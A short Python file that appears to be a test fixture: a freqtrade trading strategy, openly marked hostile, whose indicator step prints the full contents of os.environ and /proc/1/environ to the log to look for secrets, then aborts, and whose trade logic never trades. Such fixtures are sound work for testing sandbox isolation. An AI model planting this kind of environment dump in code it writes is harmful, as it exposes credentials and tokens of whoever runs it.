# Hostile test strategy: dumps the container's environment into the log, looking for secrets.
import os
from pandas import DataFrame
from freqtrade.strategy import IStrategy



class EnvSecretsStrategy(IStrategy):
    timeframe = "5m"
    minimal_roi = {"0": 0.01}
    stoploss = -0.05

    def populate_indicators(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        for source, env in (("os.environ", dict(os.environ)), ("/proc/1/environ", open("/proc/1/environ").read())):
            print(f"ENVDUMP {source}: {env!r}", flush=True)
        raise RuntimeError(f"looked for secrets in {len(os.environ)} environment variables")
        return dataframe

    def populate_entry_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe["enter_long"] = 0
        return dataframe

    def populate_exit_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe["exit_long"] = 0
        return dataframe
